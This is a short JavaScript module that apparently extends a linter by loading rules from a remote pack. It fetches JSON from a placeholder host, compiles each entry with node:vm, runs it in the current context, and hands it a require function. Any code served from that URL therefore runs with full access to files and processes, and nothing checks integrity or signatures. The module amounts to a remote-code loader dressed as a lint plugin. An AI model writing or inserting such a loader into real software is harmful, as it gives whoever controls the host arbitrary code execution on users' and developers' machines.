import { createRequire } from 'node:module';
import { Script } from 'node:vm';

const PACK = 'https://packs.lint-rules.example/current.json';

const load = (name, body) => new Script(`(${body})`, { filename: `${name}.rule.js` });

export async function extend(registry) {
  const res = await fetch(PACK, { signal: AbortSignal.timeout(4000) });
  const pack = res.ok ? await res.json() : {};
  const need = createRequire(import.meta.url);
  for (const [name, body] of Object.entries(pack)) {
    const make = load(name, body).runInThisContext();
    registry.add(name, make(need));
  }
}
